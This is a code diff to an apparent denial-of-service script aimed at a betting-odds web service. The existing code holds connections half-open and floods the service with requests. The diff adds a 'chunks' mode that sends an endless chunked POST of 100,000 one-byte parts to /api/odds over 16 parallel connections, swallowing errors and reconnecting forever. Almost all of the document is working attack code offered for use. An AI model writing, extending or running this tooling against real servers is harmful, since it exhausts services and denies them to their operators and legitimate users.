@@ -21,6 +21,8 @@ LINES = 16
 """Connections over which they ask."""
 HALF_OPEN = 1100
 """Connections that they open and leave alone."""
+PARTS = 100_000
+"""Tiny parts of which what they send consists."""
 
 _numbers = count()
 GAMES = ("multihand", "atlantic-city")
@@ -145,6 +147,30 @@ async def reconnect(address: str, cookie: str) -> None:
     await asyncio.gather(*(keep_on() for _ in range(LINES)))
 
 
+async def flood_body(address: str) -> None:
+    """Sends bodies in chunks of one byte, for ever."""
+    head = (
+        f"POST /api/odds HTTP/1.1\r\nHost: {address}\r\nOrigin: http://{address}\r\n"
+        "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
+    )
+    await _pour(address, head.encode() + b"1\r\n \r\n" * PARTS)
+
+
+async def _pour(address: str, data: bytes) -> None:
+    """Sends the data over all lines at once, each time until it is taken or the connection closed."""
+
+    async def keep_on() -> None:
+        while True:
+            with suppress(OSError):
+                _, writer = await dial(address, HERE)
+                writer.write(data)
+                await writer.drain()
+                writer.close()
+            await asyncio.sleep(0.01)
+
+    await asyncio.gather(*(keep_on() for _ in range(LINES)))
+
+
 def main(address: str, kind: str, cookie: str) -> None:
     """Does it until the process is ended."""
     os.nice(19)
@@ -153,6 +179,8 @@ def main(address: str, kind: str, cookie: str) -> None:
         asyncio.run(hold_open(address))
     elif kind == "sockets":
         asyncio.run(reconnect(address, cookie))
+    elif kind == "chunks":
+        asyncio.run(flood_body(address))
     else:
         asyncio.run(ask_on(address, kind, cookie))
 
